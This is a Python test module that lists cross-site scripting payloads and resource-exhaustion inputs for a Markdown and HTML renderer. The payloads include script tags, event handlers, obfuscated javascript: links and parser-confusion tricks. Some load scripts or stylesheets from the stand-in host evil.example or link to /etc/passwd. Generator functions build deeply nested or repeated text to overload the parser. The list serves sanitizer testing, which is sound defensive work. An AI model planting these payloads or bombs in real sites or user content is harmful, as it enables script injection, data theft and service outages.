"""Attack strings of our own for every place that shows what people write: texts that want to run, texts that want to last."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "<script\n>alert(1)</script\n>",
    "<script/defer>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload='alert(1)'//",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/a.css'</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div class='modal' id='csrf_token' style='position:fixed;inset:0'>x</div>",
    "<a id=document name=cookie href=/x>x</a>",
    "<a href='/x' target=_top onmouseover=alert(1) ping='//evil.example'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/a.css'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)' type=submit>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onconnected=alert(1)>x</custom-element>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<% <script>alert(1)</script> %>",
    "<\x00script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "＜script＞alert(1)＜/script＞",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js"onclick="alert(1)\nx\n```',
    '```{#document .modal onclick="alert(1)"}\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|b|\n|:-:|-|\n|<script>alert(1)</script>|x|",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^document]\n\n[^document]: y",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript:123)",
    "[x](  javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#0000058alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x2028;javascript:alert(1))",
    "[x](\u2029javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](https:/\\evil.example)",
    "[x](https:evil.example)",
    "[x](http:///evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](https://bank.example\u202emoc.live)",
    "[x](#document)",
    "[x](relative.html)",
    '[x](/y "z" onclick=alert(1) ")',
    "[x](/y 'z\"onclick=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: /z "\\"><script>alert(1)</script>"',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x"onerror="alert(1)](y)',
    "[![x](/y)](javascript:alert(1))",
    "[x](/a)[y](/b <script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<javascript://evil.example/%0aalert(1)>",
    "<data://text/html,x>",
    "<https://evil.example/'onclick='alert(1)>",
    '<a@evil.example"onclick=alert(1)>',
    'http://evil.example/"onmouseover="alert(1)',
    "http://evil.example/<script>alert(1)</script>",
    "http://evil.example/&quot;onmouseover=alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "https://evil.example/`onclick=alert(1)`",
    "*<b onclick=alert(1)>*__</b>__",
    "> <script>\n> alert(1)\n> </script>",
    "1. <script>\n2. alert(1)</script>",
    "a<br/onclick=alert(1)>b",
    "\ud800<script>alert(1)</script>\udfff",
]


def _nested_list(size):
    lines, written = [], 0
    while written < size:
        lines.append("    " * len(lines) + "- a")
        written += len(lines[-1]) + 1
    return "\n".join(lines)


def _footnotes(size):
    names = range(size // 24 + 1)
    return "".join(f"[^{n}] " for n in names) + "\n\n" + "".join(f"[^{n}]: nota\n" for n in names)


def _wide_table(size):
    return "|" * (size // 3) + "\n" + "|-" * (size // 6) + "\n" + "|" * (size // 3)


def _repeat(*patterns):
    return {
        pattern.replace("\n", "↵").replace("\0", "NUL"): lambda size, p=pattern: p * (size // len(p) + 1) for pattern in patterns
    }


BOMBS = (
    _repeat(
        "[", "![", "[a](", "<a ", "<![", "1. ", "> ", "*", "_", "`", "a\n: b\n", "- ", "+ ", "* ", "&", "www.", "a.", "]", "[]"
    )
    | _repeat("a@a.it ", "<a@", "*a ", "_a ", "*a_b", "**a ", "`a``b", "~~~\n", "```\n", "```a\n", "|a|b\n|-|-\n", "|", "- - -\n")
    | _repeat(
        "[a]: b\n", "#", "# a\n", "a\n=\n", "a\n===\n", "\\", "\\[", "<http://a", "<http://a> ", "http://a.it/( ", "http://"
    )
    | _repeat(
        "(", "&#1;", "&#", "\n", " \n", "\t", "\r", "a\n", "a  \n", "> - ", "- > ", "    ", '[a](b "', "[^", "<!--", "<?", "<b>"
    )
    | _repeat(
        "<script>",
        "\0",
        "👨‍👩‍👧",
        "e\u0301\u0301",
        "\u202e",
        "///Footnotes Go Here///\n\n",
        "9",
        "<",
        ">",
        "http://a.it/a" + "." * 500,
    )
    | _repeat("> - *[a](`<b> _&amp; http://a.it/( **x** 1. \n\n", "> [x]\n1. a\n    - **b _c_\n")
    | {
        "nested list": _nested_list,
        "wide table": _wide_table,
        "footnotes": _footnotes,
        "one footnote called often": lambda size: "[^a]: x\n\n" + "[^a]" * (size // 4),
        "references": lambda size: "[a][b] " * (size // 14) + "\n\n" + "[b]: http://a.it\n" * (size // 34),
        "nested brackets": lambda size: "[" * (size // 2) + "]" * (size // 2),
        "nested brackets of a link": lambda size: "[a](" + "(" * (size // 2) + ")" * (size // 2),
        "quotes one deeper each line": lambda size: "\n".join(">" * n + " a" for n in range(1, int((2 * size) ** 0.5))),
    }
)


def bomb(family: str, size: int) -> str:
    return BOMBS[family](size)[:size]
